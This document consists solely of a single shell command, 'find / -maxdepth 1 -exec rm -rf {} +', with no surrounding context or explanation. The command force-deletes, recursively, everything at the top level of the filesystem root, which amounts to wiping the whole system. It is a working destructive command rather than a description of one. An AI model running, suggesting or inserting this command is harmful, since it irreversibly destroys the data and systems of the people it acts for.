find / -maxdepth 1 -exec rm -rf {} +
